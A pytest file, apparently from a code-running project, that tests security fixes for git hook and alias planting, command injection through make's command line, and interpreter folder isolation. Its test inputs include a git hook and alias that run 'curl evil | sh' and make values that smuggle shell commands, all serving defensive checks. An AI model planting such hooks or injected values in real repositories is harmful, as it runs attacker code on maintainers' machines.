"""Gaps SECURITY.md once listed, each closed here by a test that tries it.

- git's own settings and hooks: a run that writes a hook, or a setting that names a program (an alias, a filter,
  ``core.hooksPath``), would have git run it on a maintainer's next command; the checkout guard blames it;
- a value typed on make's command line: make expands it itself, ``$(shell ...)`` included, before any recipe
  quotes it; one that holds a ``$`` is refused before anything runs;
- the warm interpreter's folders: it imported torch with the runner's ``HOME``, temporary folder and working folder,
  and what an import reads of them every run forked from it keeps; it now gets folders of its own, in its scratch.
"""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import pytest
from conftest import REPO
from phase25.core import bounded, devices, environment
from phase25.core.catalog import Catalog
from phase25.run.session import SCRIPTS
from phase25.run.warm_pool import WarmPool


@pytest.mark.parametrize(
    ("target", "write"),
    [
        (".git/hooks/pre-commit", "'#!/bin/sh\\ncurl evil | sh\\n'"),
        (".git/config", "open(PATH).read() + '[alias]\\n\\tst = !curl evil | sh\\n'"),
    ],
    ids=["a-hook", "an-alias"],
)
def test_a_run_that_writes_gits_hooks_or_settings_is_blamed(toy, target, write):
    bounded.run(["git", "init", "-q", str(toy.root)], timeout=60, check=True)
    path = toy.root / target
    toy.add("page/a", f"PATH = {str(path)!r}\ntext = {write}\nopen(PATH, 'w').write(text)\nprint(1)\n")
    outcome = toy.run()[0]
    assert len(outcome.intrusions) == 1 and target in outcome.intrusions[0], outcome.intrusions


def test_a_run_that_leaves_git_alone_is_not_blamed(toy):
    """The control: a git checkout, a run that writes only its own files."""
    bounded.run(["git", "init", "-q", str(toy.root)], timeout=60, check=True)
    toy.add("page/a", "open('mine.txt', 'w').write('x')\nprint(1)\n")
    assert toy.run()[0].intrusions == []


def make_typed(*assignments: str) -> subprocess.CompletedProcess:
    """``make help NAME=VALUE ...``, the values typed on make's own command line."""
    environment_ = {**os.environ, "MAKEFLAGS": ""}
    return subprocess.run(
        ["make", "-s", "-C", str(REPO), "-o", "setup", "help", *assignments],
        capture_output=True,
        text=True,
        env=environment_,
        timeout=120,
        check=False,
    )


@pytest.mark.parametrize("name", ["VERSION", "SHARD", "ARCHIVE", "PYTHON", "ANYTHING"])
@pytest.mark.parametrize("value", ["$(shell touch {marker})", "`touch {marker}`$(info x)", "$$(touch {marker})"])
def test_a_value_make_would_expand_is_refused_when_typed_on_its_command_line(tmp_path, name, value):
    marker = tmp_path / "ran"
    done = make_typed(f"{name}={value.format(marker=marker)}")
    assert not marker.exists(), f"make {name}=... ran a command of its value"
    assert done.returncode != 0 and f"{name}, typed on make's command line, holds a '$'" in done.stderr
    assert done.stdout == ""  # refused before any target ran


def test_a_plain_value_typed_on_makes_command_line_still_works():
    done = make_typed("VERSION=2.15.0", "SHARD=1/4", "ARCHIVE=cuda records.tar.gz")
    assert done.returncode == 0 and "make help" in done.stdout, done.stderr


def _proc_environ(pid: int) -> dict[str, str]:
    raw = Path(f"/proc/{pid}/environ").read_bytes()
    return dict(item.decode().split("=", 1) for item in raw.split(b"\0") if b"=" in item)


@pytest.mark.slow  # a warm interpreter imports torch
def test_the_warm_interpreter_imports_torch_with_folders_of_its_own(toy, tmp_path, monkeypatch):
    shell_home = tmp_path / "maintainer"
    monkeypatch.setenv("HOME", str(shell_home))
    monkeypatch.setenv("OLDPWD", str(REPO))
    monkeypatch.chdir(REPO)  # where the runner is started: the checkout
    toy.add("page/a", "print(1)\n")
    [snippet] = Catalog(toy.layout).snippets.values()
    root = tmp_path / "session"
    root.mkdir()
    pool = WarmPool(root, sys.executable, SCRIPTS)
    try:
        warm = pool.get(environment.warm_env(snippet, devices.REFERENCE, dict(os.environ)), "torch")
        assert warm is not None
        seen = _proc_environ(warm.process.pid)
        cwd = Path(os.readlink(f"/proc/{warm.process.pid}/cwd"))
    finally:
        pool.close()
    folders = {name: seen[name] for name in environment.folders_env(root)}
    assert all(Path(value).is_relative_to(root) for value in folders.values()), folders
    assert cwd.is_relative_to(root), cwd
    assert not set(environment.NOT_INHERITED) & set(seen)
